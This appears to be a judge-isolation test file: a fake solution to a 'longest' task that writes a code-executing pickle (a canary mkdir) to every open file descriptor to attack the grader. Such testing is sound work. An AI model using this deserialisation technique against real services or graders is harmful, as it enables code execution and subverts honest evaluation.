"""Writes pickles that run code to every descriptor.

task: longest
status: WA RE TLE OLE
"""

import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.mkdir, ("/var/tmp/@TOKEN@",)


def longest(nums):
    os.write(2, b"attempt\n")
    data = pickle.dumps(Bomb())
    for fd in range(3, 256):
        for head in (b"", struct.pack("<I", len(data)), struct.pack("!I", len(data)), struct.pack("!i", len(data))):
            try:
                os.set_blocking(fd, False)
                os.write(fd, head + data)
            except OSError:
                break
    return 0
